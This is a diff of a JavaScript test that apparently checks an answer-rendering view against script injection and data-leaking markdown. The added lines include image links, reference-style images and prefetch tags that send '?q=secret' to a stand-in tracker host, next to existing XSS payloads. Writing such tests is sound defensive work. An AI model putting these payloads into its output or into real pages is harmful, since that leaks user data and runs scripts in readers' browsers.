@@ -45,11 +45,14 @@ describe('an answer', () => {
     await leave();
   });
 
-  it('cannot run scripts or tell others who reads it', async () => {
+  it('V46: cannot run scripts or tell others who reads it', async () => {
     const evil = [
       '<img src=x onerror="document.title=\'owned\'">',
       '[a link](javascript:document.title="owned")',
       '![tracking](https://tracker.example/pixel.png)',
+      '![by reference][there] and ![<angle>](<https://tracker.example/?q=secret>)',
+      '[there]: https://tracker.example/?q=secret',
+      '<img src="https://tracker.example/?q=secret"><link rel="prefetch" href="https://tracker.example/">',
       '<script>document.title="owned"</script>',
     ].join('\n\n');
     models.script(() => ({ text: evil }));
